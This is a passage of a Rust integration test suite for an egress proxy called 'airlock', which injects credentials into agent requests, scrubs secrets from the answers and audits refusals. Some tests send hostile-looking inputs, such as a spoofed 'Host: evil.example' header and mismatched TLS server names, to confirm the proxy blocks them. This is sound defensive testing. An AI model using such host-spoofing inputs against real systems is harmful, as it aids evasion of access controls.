//! The egress proxy through the real binary and a real client (curl):
//! `airlock proxy --agent NAME` prints the environment, and a program that
//! uses it reaches configured services only, with the credential injected by
//! airlock and the answer scrubbed; TLS is terminated with the session CA;
//! unauthenticated requests, other hosts, a TLS server name or a `Host` that is
//! not the CONNECT host, and policy refusals are refused and audited.
#![allow(clippy::unwrap_used)]

use std::io::{BufRead, BufReader, Read, Write as _};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::{Arc, Mutex};
use std::time::Duration;

const SECRET: &str = "sk_live_proxyCanary0123456789abcdef";
const AGENT: &str = "bot";

fn airlock(home: &Path) -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_airlock"));
    c.env("AIRLOCK_HOME", home).stdin(Stdio::null());
    c
}

fn ok(out: Output) -> Output {
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

/// What a test server saw: the request (or handshake) heads, in order.
type Heads = Arc<Mutex<Vec<String>>>;

/// An HTTP/1.1 upstream that answers every request with what it received:
/// `{"line": REQUEST LINE, "authorization": VALUE}`. Returns its port and the
/// request heads it saw.
fn upstream() -> (u16, Heads) {
    let seen = Arc::new(Mutex::new(Vec::new()));
    let log = Arc::clone(&seen);
    let port = common::http_upstream(move |head| {
        log.lock().unwrap().push(head.to_string());
        let line = head.lines().next().unwrap_or_default().trim();
        let auth = head
            .lines()
            .filter_map(|l| {
                let v = l
                    .to_ascii_lowercase()
                    .strip_prefix("authorization: ")?
                    .len();
                Some(l[l.len() - v..].trim())
            })
            .next_back()
            .unwrap_or("none");
        let body = serde_json::json!({ "line": line, "authorization": auth }).to_string();
        common::http_response("200 OK", &[("Content-Type", "application/json")], &body)
    });
    (port, seen)
}

fn assert_untouched(seen: &Mutex<Vec<String>>) {
    let heads = seen.lock().unwrap();
    assert!(heads.is_empty(), "the upstream saw a request: {heads:?}");
}

/// A free loopback port with nothing listening on it.
fn closed_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

/// A running `airlock proxy --agent bot`, with the environment it printed.
struct Proxy {
    child: Child,
    url: String,
    ca: PathBuf,
    stdout: String,
}

impl Drop for Proxy {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Lines from `reader` until one holds `marker` (true) or the stream ends
/// (false); all of them.
fn read_until(reader: &mut impl BufRead, marker: &str) -> (String, bool) {
    let mut text = String::new();
    while !text.contains(marker) {
        let mut line = String::new();
        if reader.read_line(&mut line).unwrap() == 0 {
            return (text, false);
        }
        text.push_str(&line);
    }
    (text, true)
}

/// `airlock proxy ARGS` on `home`, its stdout and stderr piped.
fn spawn_proxy(home: &Path, args: &[&str]) -> Child {
    airlock(home)
        .arg("proxy")
        .args(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap()
}

fn start_proxy(home: &Path) -> Proxy {
    let port = closed_port();
    let mut child = spawn_proxy(
        home,
        &["--listen", &format!("127.0.0.1:{port}"), "--agent", AGENT],
    );
    let mut out = BufReader::new(child.stdout.take().unwrap());
    let (stdout, seen) = read_until(&mut out, "unset NO_PROXY");
    if !seen {
        let mut err = String::new();
        child
            .stderr
            .take()
            .unwrap()
            .read_to_string(&mut err)
            .unwrap();
        panic!("airlock proxy exited: {err}");
    }
    let value = |var: &str| {
        stdout
            .lines()
            .find_map(|l| l.strip_prefix(&format!("export {var}='")))
            .and_then(|v| v.strip_suffix('\''))
            .unwrap_or_else(|| panic!("{var} not printed: {stdout}"))
            .to_string()
    };
    Proxy {
        url: value("HTTPS_PROXY"),
        ca: PathBuf::from(value("SSL_CERT_FILE")),
        stdout,
        child,
    }
}

/// A home with service "local" (plain http, on `http_port`) and "remote" (https
/// on `https_port`, GET /v1/** only), both for agent `bot`.
fn home(http_port: u16, https_port: u16) -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("home");
    for (name, url) in [
        ("local", format!("http://127.0.0.1:{http_port}")),
        ("remote", format!("https://127.0.0.1:{https_port}")),
    ] {
        ok(airlock(&home)
            .args([
                "add",
                name,
                "--url",
                &url,
                "--key-from-env",
                "KEY",
                "--no-cap",
            ])
            .env("KEY", SECRET)
            .output()
            .unwrap());
    }
    for (cap, rules) in [
        ("local", &[][..]),
        ("remote", &["--allow", "GET /v1/**"][..]),
    ] {
        ok(airlock(&home)
            .args(["cap", "add", cap, "--service", cap, "--agents", AGENT])
            .args(rules)
            .output()
            .unwrap());
    }
    (dir, home)
}

/// A [`home`] and `airlock proxy` started on it: the directory, the home and
/// the proxy.
fn proxied_home(http_port: u16, https_port: u16) -> (tempfile::TempDir, PathBuf, Proxy) {
    let (dir, home) = home(http_port, https_port);
    let proxy = start_proxy(&home);
    (dir, home, proxy)
}

/// curl with `args`, no proxy variables of the test's own environment; returns
/// (exit code, body, stderr).
fn curl(args: &[&str]) -> (i32, String, String) {
    let out = Command::new("curl")
        .args(["-sS", "--max-time", "20"])
        .args(args)
        .env_remove("HTTPS_PROXY")
        .env_remove("https_proxy")
        .env_remove("HTTP_PROXY")
        .env_remove("http_proxy")
        .env_remove("NO_PROXY")
        .env_remove("no_proxy")
        .output()
        .expect("curl must be installed (Debian package curl)");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// curl with `args` that must succeed as a transfer; the body and the
/// answer's "STATUS HTTP-VERSION".
fn fetch(args: &[&str]) -> (String, String) {
    let mut all = args.to_vec();
    all.extend(["-w", "\n%{http_code} %{http_version}"]);
    let (code, out, err) = curl(&all);
    assert_eq!(code, 0, "{err}");
    let (body, status) = out.rsplit_once('\n').unwrap();
    (body.to_string(), status.to_string())
}

fn audit_text(home: &Path) -> String {
    let mut text = String::new();
    for entry in std::fs::read_dir(home.join("audit")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|e| e == "jsonl") {
            text.push_str(&std::fs::read_to_string(&path).unwrap());
        }
    }
    text
}

/// Waits until the audit log contains `needle` (records may be batched).
fn audit_contains(home: &Path, needle: &str) -> bool {
    for _ in 0..50 {
        if audit_text(home).contains(needle) {
            return true;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    false
}

#[test]
fn a_plain_http_request_gets_the_credential_and_its_answer_is_scrubbed() {
    let (up, seen) = upstream();
    let (_dir, home, proxy) = proxied_home(up, closed_port());
    assert!(!proxy.stdout.contains(SECRET));

    let (code, body, err) = curl(&[
        "-x",
        &proxy.url,
        &format!("http://127.0.0.1:{up}/v1/customers?limit=3"),
        "-H",
        "Authorization: Bearer airlock_placeholder_of_the_program",
    ]);
    assert_eq!(code, 0, "{err}");
    let answer: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(answer["line"], "GET /v1/customers?limit=3 HTTP/1.1");
    // The upstream got the real key; the program sees it redacted.
    assert_eq!(answer["authorization"], "Bearer [REDACTED:local]");
    let heads = seen.lock().unwrap().join("");
    assert!(heads.contains(&format!("Bearer {SECRET}")), "{heads}");
    assert!(!heads.contains("airlock_placeholder_of_the_program"));
    assert!(!heads.to_ascii_lowercase().contains("proxy-authorization"));
    assert!(!body.contains(SECRET));
    assert!(audit_contains(&home, "/v1/customers"));
    // Canary: the key is in no file of the home (the vault holds it sealed) nor
    // in the CA's directory.
    for dir in [home.as_path(), proxy.ca.parent().unwrap()] {
        for file in files_under(dir) {
            let bytes = std::fs::read(&file).unwrap();
            assert!(
                !bytes.windows(SECRET.len()).any(|w| w == SECRET.as_bytes()),
                "the key is in {}",
                file.display()
            );
        }
    }
}

fn files_under(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap().flatten() {
        let path = entry.path();
        if path.is_dir() {
            out.extend(files_under(&path));
        } else if path.is_file() {
            out.push(path);
        }
    }
    out
}

#[test]
fn without_a_valid_token_the_answer_is_407_and_nothing_is_sent() {
    let (up, seen) = upstream();
    let (_dir, _home, proxy) = proxied_home(up, closed_port());
    let addr = proxy.url.rsplit('@').next().unwrap().to_string();
    let target = format!("http://127.0.0.1:{up}/v1/x");
    for proxy_url in [
        format!("http://{addr}"),
        format!("http://airlock:airlock_0000_wrong@{addr}"),
    ] {
        let (code, body, err) = curl(&["-x", &proxy_url, &target, "-w", "\n%{http_code}"]);
        assert_eq!(code, 0, "{err}");
        assert!(body.ends_with("\n407"), "{body}");
    }
    // CONNECT too.
    let (code, _, _) = curl(&[
        "-x",
        &format!("http://{addr}"),
        &format!("https://127.0.0.1:{up}/v1/x"),
    ]);
    assert_ne!(code, 0);
    assert_untouched(&seen);
}

#[test]
fn hosts_no_service_names_are_refused_and_audited() {
    let (up, seen) = upstream();
    let (_dir, home, proxy) = proxied_home(closed_port(), closed_port());
    // `up` listens but no service names it.
    let (code, body, err) = curl(&[
        "-x",
        &proxy.url,
        &format!("http://127.0.0.1:{up}/"),
        "-w",
        "\n%{http_code}",
    ]);
    assert_eq!(code, 0, "{err}");
    assert!(body.ends_with("\n403"), "{body}");
    assert!(body.contains("no service names"), "{body}");
    let (code, _, err) = curl(&["-x", &proxy.url, &format!("https://127.0.0.1:{up}/")]);
    assert_ne!(code, 0);
    assert!(err.contains("403"), "{err}");
    assert_untouched(&seen);
    assert!(audit_contains(&home, &format!("127.0.0.1:{up}")));
}

#[test]
fn tls_is_terminated_with_the_session_ca_and_the_policy_decides() {
    let https_port = closed_port();
    let (_dir, home, proxy) = proxied_home(closed_port(), https_port);
    let ca = proxy.ca.to_str().unwrap();
    let url = |path: &str| format!("https://127.0.0.1:{https_port}{path}");
    let tls = |extra: &[&str], path: &str| {
        let mut args = vec!["-x", proxy.url.as_str(), "--cacert", ca];
        args.extend_from_slice(extra);
        fetch(&[&args[..], &[url(path).as_str()]].concat())
    };

    // Refused by the capability's rules inside the tunnel: airlock's JSON answer
    // over TLS that curl verified against the session CA (HTTP/2 by ALPN, and
    // HTTP/1.1).
    let (body, status) = tls(&["-X", "DELETE"], "/v1/customers/1");
    assert_eq!(status, "403 2", "{body}");
    assert!(body.contains("permission_error"), "{body}");
    let (body, status) = tls(&["--http1.1", "-X", "DELETE"], "/v1/customers/1");
    assert_eq!(status, "403 1.1", "{body}");
    // Allowed: airlock connects to the service's origin (nothing listens: 502).
    let (body, status) = tls(&[], "/v1/customers");
    assert_eq!(status, "502 2", "{body}");
    // Without the session CA, the client does not trust the leaf: on record.
    let (code, _, _) = curl(&["-x", &proxy.url, &url("/v1/customers")]);
    assert_ne!(code, 0);
    assert!(audit_contains(
        &home,
        "TLS handshake with the client failed"
    ));
    assert!(audit_contains(&home, "/v1/customers/1"));
}

#[test]
fn a_tls_server_name_or_host_other_than_the_connect_host_is_refused() {
    let https_port = closed_port();
    let (_dir, home, proxy) = proxied_home(closed_port(), https_port);
    let ca = proxy.ca.to_str().unwrap();
    // CONNECT 127.0.0.1:PORT, but the TLS server name says localhost.
    let (code, _, _) = curl(&[
        "-x",
        &proxy.url,
        "--cacert",
        ca,
        "--connect-to",
        &format!("localhost:{https_port}:127.0.0.1:{https_port}"),
        &format!("https://localhost:{https_port}/v1/x"),
    ]);
    assert_ne!(code, 0);
    assert!(audit_contains(&home, "is not the CONNECT host"));
    // Inside a tunnel to 127.0.0.1, a request that names another host.
    let (code, body, err) = curl(&[
        "-x",
        &proxy.url,
        "--cacert",
        ca,
        "--http1.1",
        "-H",
        "Host: evil.example",
        &format!("https://127.0.0.1:{https_port}/v1/x"),
        "-w",
        "\n%{http_code}",
    ]);
    assert_eq!(code, 0, "{err}");
    assert!(body.ends_with("\n421"), "{body}");
}

#[test]
fn the_token_it_issued_is_revoked_when_the_proxy_stops() {
    let (_dir, home, proxy) = proxied_home(closed_port(), closed_port());
    let list = |home: &Path| {
        String::from_utf8(ok(airlock(home).args(["token", "list"]).output().unwrap()).stdout)
            .unwrap()
    };
    assert!(list(&home).contains(AGENT));
    let mut proxy = proxy;
    // SIGTERM: the proxy's clean exit path.
    Command::new("kill")
        .args(["-TERM", &proxy.child.id().to_string()])
        .status()
        .unwrap();
    let status = proxy.child.wait().unwrap();
    assert!(status.success(), "{status:?}");
    let after = list(&home);
    assert!(
        after
            .lines()
            .filter(|l| l.contains(AGENT))
            .all(|l| l.contains("revoked")),
        "{after}"
    );
    assert!(!proxy.ca.exists(), "the CA file outlived the proxy");
}

#[test]
fn targets_that_are_not_a_service_origin_are_refused_before_anything_is_sent() {
    let (up, seen) = upstream();
    let https_port = closed_port();
    let (_dir, _home, proxy) = proxied_home(up, https_port);
    let code_of = |args: &[&str]| {
        let mut all = vec!["-x", proxy.url.as_str(), "-w", "\n%{http_code}"];
        all.extend_from_slice(args);
        let (code, body, err) = curl(&all);
        assert_eq!(code, 0, "{err}");
        body.rsplit('\n').next().unwrap().to_string()
    };
    // The service names 127.0.0.1, not localhost (same address, other origin).
    assert_eq!(code_of(&[&format!("http://localhost:{up}/v1/x")]), "403");
    // Another port of the same host.
    assert_eq!(
        code_of(&[&format!("http://127.0.0.1:{}/v1/x", closed_port())]),
        "403"
    );
    // The https service's origin over plain http (no http service names it).
    assert_eq!(
        code_of(&[&format!("http://127.0.0.1:{https_port}/v1/x")]),
        "403"
    );
    // An origin-form request to the proxy itself.
    let addr = proxy.url.rsplit('@').next().unwrap();
    let (code, body, err) = curl(&[
        "--proxy-user",
        "x:y",
        "-H",
        &format!(
            "Proxy-Authorization: Basic {}",
            base64_of(&format!("airlock:{}", token_of(&proxy.url)))
        ),
        &format!("http://{addr}/v1/x"),
        "-w",
        "\n%{http_code}",
    ]);
    assert_eq!(code, 0, "{err}");
    assert!(body.ends_with("\n400"), "{body}");
    assert_untouched(&seen);
}

#[test]
fn the_proxy_user_name_picks_a_capability_and_cannot_widen_access() {
    let (up, seen) = upstream();
    let (_dir, home) = home(up, closed_port());
    // A second, narrower capability on the same service: now two match.
    ok(airlock(&home)
        .args([
            "cap",
            "add",
            "local_ro",
            "--service",
            "local",
            "--agents",
            AGENT,
            "--allow",
            "GET /v1/public/**",
        ])
        .output()
        .unwrap());
    let proxy = start_proxy(&home);
    let token = token_of(&proxy.url);
    let addr = proxy.url.rsplit('@').next().unwrap().to_string();
    let get = |user: &str, path: &str| {
        let (code, body, err) = curl(&[
            "-x",
            &format!("http://{user}:{token}@{addr}"),
            &format!("http://127.0.0.1:{up}{path}"),
            "-w",
            "\n%{http_code}",
        ]);
        assert_eq!(code, 0, "{err}");
        body
    };
    let ambiguous = get("airlock", "/v1/x");
    assert!(ambiguous.ends_with("\n403"), "{ambiguous}");
    assert!(ambiguous.contains("local, local_ro"), "{ambiguous}");
    assert!(get("local_ro", "/v1/public/a").ends_with("\n200"));
    assert!(get("local_ro", "/v1/private").ends_with("\n403"));
    assert!(get("local", "/v1/private").ends_with("\n200"));
    // A capability of another service, or none at all, is not a way in.
    assert!(get("remote", "/v1/x").ends_with("\n403"));
    assert!(get("nonexistent", "/v1/x").ends_with("\n403"));
    let heads = seen.lock().unwrap();
    assert_eq!(heads.len(), 2, "{heads:?}");
}

#[test]
fn serve_proxy_serves_it_for_issued_tokens() {
    let (up, _seen) = upstream();
    let (_dir, home) = home(up, closed_port());
    let out = ok(airlock(&home)
        .args(["token", "issue", "--agent", AGENT, "--json"])
        .output()
        .unwrap());
    let token = serde_json::from_slice::<serde_json::Value>(&out.stdout).unwrap()["token"]
        .as_str()
        .unwrap()
        .to_string();
    let port = closed_port();
    let mut child = airlock(&home)
        .args(["serve", "--proxy", &format!("127.0.0.1:{port}")])
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut err = BufReader::new(child.stderr.take().unwrap());
    let mut line = String::new();
    while !line.contains("egress proxy on") {
        line.clear();
        assert_ne!(err.read_line(&mut line).unwrap(), 0, "serve exited");
    }
    let (code, body, e) = curl(&[
        "-x",
        &format!("http://airlock:{token}@127.0.0.1:{port}"),
        &format!("http://127.0.0.1:{up}/v1/x"),
    ]);
    let _ = child.kill();
    let _ = child.wait();
    assert_eq!(code, 0, "{e}");
    assert!(body.contains("Bearer [REDACTED:local]"), "{body}");
}

fn token_of(proxy_url: &str) -> String {
    proxy_url
        .strip_prefix("http://airlock:")
        .and_then(|r| r.split('@').next())
        .unwrap()
        .to_string()
}

fn base64_of(s: &str) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(s)
}

// ---------------------------------------------------------------------------
// WebSocket upgrades: the handshake goes through the request path (the key
// injected, the agent's own credential and extensions dropped), messages are
// relayed whole and scrubbed.

/// A server on a free loopback port that hands each connection to `serve`,
/// with the log to keep what it saw in; its port and that log.
fn logging_server(serve: impl Fn(TcpStream, &Heads) + Send + 'static) -> (u16, Heads) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let log = Arc::clone(&seen);
    std::thread::spawn(move || {
        for tcp in listener.incoming().flatten() {
            serve(tcp, &log);
        }
    });
    (port, seen)
}

/// A request or response head read a byte at a time (nothing past it is
/// consumed), up to the blank line or the end of input, CRLFs kept.
fn read_head_bytes(r: &mut impl Read) -> Vec<u8> {
    let mut head = Vec::new();
    let mut byte = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") {
        match r.read(&mut byte) {
            Ok(1) => head.push(byte[0]),
            _ => break,
        }
    }
    head
}

/// A plain-TCP WebSocket upstream: answers each text message "got MSG", and
/// "echo-key" with the key itself; on `/v1/ext` it picks an extension nobody
/// offered. Returns its port and the handshake heads it saw.
#[allow(clippy::result_large_err)] // tungstenite's handshake callback type
fn ws_upstream() -> (u16, Heads) {
    use tungstenite::handshake::server::{Request as WsRequest, Response as WsResponse};
    logging_server(|tcp, log| {
        let log = Arc::clone(log);
        std::thread::spawn(move || {
            let callback = |req: &WsRequest, mut resp: WsResponse| {
                let mut head = format!("GET {}\n", req.uri());
                for (k, v) in req.headers() {
                    head.push_str(&format!("{k}: {}\n", String::from_utf8_lossy(v.as_bytes())));
                }
                log.lock().unwrap().push(head);
                if req.uri().path() == "/v1/ext" {
                    resp.headers_mut().insert(
                        "sec-websocket-extensions",
                        "permessage-deflate".parse().unwrap(),
                    );
                }
                Ok(resp)
            };
            let Ok(mut ws) = tungstenite::accept_hdr(tcp, callback) else {
                return;
            };
            while let Ok(msg) = ws.read() {
                let answer = match msg {
                    tungstenite::Message::Text(t) if t.as_str() == "echo-key" => {
                        format!("key={SECRET}")
                    }
                    tungstenite::Message::Text(t) => format!("got {}", t.as_str()),
                    tungstenite::Message::Close(_) => break,
                    _ => continue,
                };
                if ws.send(tungstenite::Message::text(answer)).is_err() {
                    break;
                }
            }
        });
    })
}

/// Sends a WebSocket handshake for `path` on the "local" service through the
/// proxy as an absolute-form request; the answer's head and the connection.
fn ws_handshake(
    proxy: &Proxy,
    ws_port: u16,
    path: &str,
    extra: &str,
) -> (String, std::net::TcpStream) {
    let (userinfo, addr) = proxy
        .url
        .strip_prefix("http://")
        .unwrap()
        .split_once('@')
        .unwrap();
    let mut tcp = std::net::TcpStream::connect(addr).unwrap();
    tcp.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    write!(
        tcp,
        "GET http://127.0.0.1:{ws_port}{path} HTTP/1.1\r\nHost: 127.0.0.1:{ws_port}\r\nProxy-Authorization: Basic {}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n{extra}\r\n",
        base64_of(userinfo)
    )
    .unwrap();
    let head = read_head_bytes(&mut tcp);
    (String::from_utf8_lossy(&head).into_owned(), tcp)
}

#[test]
fn a_websocket_gets_the_key_in_its_handshake_and_its_messages_scrubbed() {
    let (ws_port, seen) = ws_upstream();
    let (_dir, home, proxy) = proxied_home(ws_port, closed_port());

    // The agent offers compression and its own credential: neither goes on.
    let extra = "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Extensions: permessage-deflate\r\nAuthorization: Bearer agent-own\r\n";
    let (head, tcp) = ws_handshake(&proxy, ws_port, "/v1/ws", extra);
    assert!(head.starts_with("HTTP/1.1 101"), "{head}");
    // RFC 6455's example key and its accept value: the upstream's answer.
    assert!(
        head.to_ascii_lowercase()
            .contains("sec-websocket-accept: s3pplmbitxaq9kygzzhzrbk+xoo="),
        "{head}"
    );
    assert!(!head.to_ascii_lowercase().contains("extensions"), "{head}");
    let mut ws =
        tungstenite::WebSocket::from_raw_socket(tcp, tungstenite::protocol::Role::Client, None);
    let mut ask = |text: &str| {
        ws.send(tungstenite::Message::text(text)).unwrap();
        match ws.read().unwrap() {
            tungstenite::Message::Text(t) => t.as_str().to_string(),
            other => panic!("{other:?}"),
        }
    };
    assert_eq!(ask("hello"), "got hello");
    // The key echoed in a message comes back redacted.
    assert_eq!(ask("echo-key"), "key=[REDACTED:local]");
    assert_eq!(ask("again"), "got again");

    let heads = seen.lock().unwrap().join("");
    assert!(
        heads.contains(&format!("authorization: Bearer {SECRET}")),
        "{heads}"
    );
    assert!(!heads.contains("agent-own"), "{heads}");
    assert!(!heads.contains("sec-websocket-extensions"), "{heads}");
    assert!(audit_contains(&home, "WebSocket opened"));

    // An upstream that picks an extension anyway is refused: a compressed
    // frame could not be scrubbed.
    let (head, _tcp) = ws_handshake(&proxy, ws_port, "/v1/ext", "Sec-WebSocket-Version: 13\r\n");
    assert!(head.starts_with("HTTP/1.1 502"), "{head}");
    // A handshake airlock cannot honour is refused before anything is sent.
    let before = seen.lock().unwrap().len();
    let (head, _tcp) = ws_handshake(&proxy, ws_port, "/v1/ws", "Sec-WebSocket-Version: 8\r\n");
    assert!(head.starts_with("HTTP/1.1 400"), "{head}");
    assert_eq!(seen.lock().unwrap().len(), before);
    assert!(audit_contains(&home, "Sec-WebSocket-Version"));

    // The owner's revocation reaches the connection still open: closed (1008).
    ok(airlock(&home).args(["revoke", "--all"]).output().unwrap());
    match ws.read() {
        Ok(tungstenite::Message::Close(Some(frame))) => {
            assert_eq!(
                frame.code,
                tungstenite::protocol::frame::coding::CloseCode::Policy
            );
        }
        other => panic!("the WebSocket outlived the revocation: {other:?}"),
    }
}

#[test]
fn a_tunnel_that_never_starts_tls_is_closed() {
    let https_port = closed_port();
    let (_dir, _home, proxy) = proxied_home(closed_port(), https_port);
    let addr = proxy.url.rsplit('@').next().unwrap().to_string();
    let mut s = std::net::TcpStream::connect(&addr).unwrap();
    write!(
        s,
        "CONNECT 127.0.0.1:{https_port} HTTP/1.1\r\nHost: 127.0.0.1:{https_port}\r\nProxy-Authorization: Basic {}\r\n\r\n",
        base64_of(&format!("airlock:{}", token_of(&proxy.url)))
    )
    .unwrap();
    let mut head = [0u8; 12];
    s.read_exact(&mut head).unwrap();
    assert_eq!(&head, b"HTTP/1.1 200");
    // Say nothing: the proxy closes the tunnel after its handshake timeout.
    s.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    let started = std::time::Instant::now();
    let mut rest = Vec::new();
    let _ = s.read_to_end(&mut rest);
    assert!(
        started.elapsed() < Duration::from_secs(25),
        "the silent tunnel stayed open for {:?}",
        started.elapsed()
    );
}

/// An HTTPS upstream with its own CA (not trusted by the system): answers every
/// request like [`upstream`]. Returns its port, the CA certificate (PEM) and
/// the request heads it saw.
fn tls_upstream() -> (u16, String, Heads) {
    use rcgen::{BasicConstraints, CertificateParams, IsCa, Issuer, KeyPair};
    let ca_key = KeyPair::generate().unwrap();
    let mut ca = CertificateParams::default();
    ca.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    let ca_cert = ca.self_signed(&ca_key).unwrap();
    let issuer = Issuer::new(ca, ca_key);
    let leaf_key = KeyPair::generate().unwrap();
    let leaf = CertificateParams::new(vec!["127.0.0.1".to_string()])
        .unwrap()
        .signed_by(&leaf_key, &issuer)
        .unwrap();
    let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
    let config = Arc::new(
        rustls::ServerConfig::builder_with_provider(provider)
            .with_safe_default_protocol_versions()
            .unwrap()
            .with_no_client_auth()
            .with_single_cert(
                vec![leaf.der().clone()],
                rustls::pki_types::PrivateKeyDer::Pkcs8(leaf_key.serialize_der().into()),
            )
            .unwrap(),
    );
    let (port, seen) = logging_server(move |tcp, log| {
        let Ok(conn) = rustls::ServerConnection::new(config.clone()) else {
            return;
        };
        let mut tls = rustls::StreamOwned::new(conn, tcp);
        let head = read_head_bytes(&mut tls);
        if head.is_empty() {
            return; // the handshake failed: no request
        }
        let head = String::from_utf8_lossy(&head).into_owned();
        let line = head.lines().next().unwrap_or_default().to_string();
        let auth = head
            .lines()
            .find_map(|l| {
                l.split_once(':')
                    .filter(|(k, _)| k.eq_ignore_ascii_case("authorization"))
            })
            .map_or("none".to_string(), |(_, v)| v.trim().to_string());
        log.lock().unwrap().push(head);
        let body = serde_json::json!({ "line": line, "authorization": auth }).to_string();
        let _ = write!(
            tls,
            "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        );
        let _ = tls.flush();
        tls.conn.send_close_notify();
        let _ = tls.flush();
    });
    (port, ca_cert.pem(), seen)
}

#[test]
fn an_https_service_with_a_private_ca_is_reached_through_the_tunnel() {
    let (port, upstream_ca, seen) = tls_upstream();
    let (dir, home, proxy) = proxied_home(closed_port(), port);
    let session_ca = proxy.ca.to_str().unwrap();
    let fetch_customers = |extra: &[&str]| {
        let url = format!("https://127.0.0.1:{port}/v1/customers?limit=2");
        let mut args = vec!["-x", proxy.url.as_str(), "--cacert", session_ca];
        args.extend_from_slice(extra);
        args.extend([
            "-H",
            "Authorization: Bearer airlock_placeholder",
            url.as_str(),
        ]);
        fetch(&args)
    };
    // The upstream's CA is not a system root: airlock refuses its certificate.
    let (body, status) = fetch_customers(&[]);
    assert_eq!(status, "502 2", "{body}");
    assert_untouched(&seen);

    // The owner names the service's CA (`ca_file`); the running proxy reloads.
    name_remote_ca(dir.path(), &home, &upstream_ca);

    for extra in [&[][..], &["--http1.1"][..]] {
        let (body, status) = fetch_customers(extra);
        assert!(status.starts_with("200 "), "{status}: {body}");
        let answer: serde_json::Value = serde_json::from_str(&body).unwrap();
        assert_eq!(answer["line"], "GET /v1/customers?limit=2 HTTP/1.1");
        // Both services of this home hold the same key: its marker names the
        // first ("local").
        assert_eq!(answer["authorization"], "Bearer [REDACTED:local]");
        assert!(!body.contains(SECRET));
    }
    let heads = seen.lock().unwrap().join("");
    assert!(heads.contains(&format!("Bearer {SECRET}")), "{heads}");
    assert!(!heads.contains("airlock_placeholder"), "{heads}");
}

#[test]
fn userinfo_in_a_request_target_is_never_recorded() {
    let (up, seen) = upstream();
    let (_dir, home, proxy) = proxied_home(closed_port(), closed_port());
    let addr = proxy.url.rsplit('@').next().unwrap().to_string();
    let auth = base64_of(&format!("airlock:{}", token_of(&proxy.url)));
    // No service names this origin: refused, and the refusal is audited.
    let mut s = std::net::TcpStream::connect(&addr).unwrap();
    write!(
        s,
        "GET http://user:canary_userinfo_pw@127.0.0.1:{up}/v1/x HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\nProxy-Authorization: Basic {auth}\r\nConnection: close\r\n\r\n"
    )
    .unwrap();
    let mut answer = String::new();
    s.read_to_string(&mut answer).unwrap();
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
    assert!(audit_contains(&home, &format!("127.0.0.1:{up}")));
    assert!(!audit_text(&home).contains("canary_userinfo_pw"));
    assert_untouched(&seen);
}

#[test]
fn listening_beyond_loopback_is_warned_and_a_bad_address_is_one_line() {
    let (_dir, home) = home(closed_port(), closed_port());
    let out = airlock(&home)
        .args(["proxy", "--listen", "nonsense"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("cannot listen on nonsense"), "{err}");
    assert!(err.contains("--listen HOST:PORT"), "{err}");
    assert_eq!(err.trim().lines().count(), 1, "{err}");

    let mut child = spawn_proxy(&home, &["--listen", "0.0.0.0:0"]);
    let mut err = BufReader::new(child.stderr.take().unwrap());
    let (seen, _) = read_until(&mut err, "beyond this machine");
    let _ = child.kill();
    let _ = child.wait();
    assert!(seen.contains("beyond this machine"), "{seen}");
}

// ---------------------------------------------------------------------------
// `airlock run --proxy`: the program holds a placeholder, the run's own proxy
// puts the key on requests to the placeholder's service only, and a
// placeholder anywhere else trips the wire.

/// Writes `upstream_ca` (PEM) into `dir` and names it as service "remote"'s
/// `ca_file` in the home's airlock.toml.
fn name_remote_ca(dir: &Path, home: &Path, upstream_ca: &str) {
    let ca_path = dir.join("upstream-ca.pem");
    std::fs::write(&ca_path, upstream_ca).unwrap();
    let toml = home.join("airlock.toml");
    let config = std::fs::read_to_string(&toml).unwrap().replace(
        "[services.remote]\n",
        &format!("[services.remote]\nca_file = \"{}\"\n", ca_path.display()),
    );
    assert!(config.contains("ca_file"), "{config}");
    std::fs::write(&toml, config).unwrap();
}

/// A home whose service "remote" is `tls_upstream`'s (its CA named), with an
/// exec capability "tool" for `sh` that puts {{secret}} in `TOKEN`; service
/// "local" (plain http on `http_port`) as [`home`] makes it.
fn run_home(http_port: u16, https_port: u16, upstream_ca: &str) -> (tempfile::TempDir, PathBuf) {
    let (dir, home) = home(http_port, https_port);
    name_remote_ca(dir.path(), &home, upstream_ca);
    add_sh_capability(&home, "tool", "remote");
    (dir, home)
}

/// Exec capability `name` of `service`: `sh`, with the secret in `TOKEN`.
fn add_sh_capability(home: &Path, name: &str, service: &str) {
    ok(airlock(home)
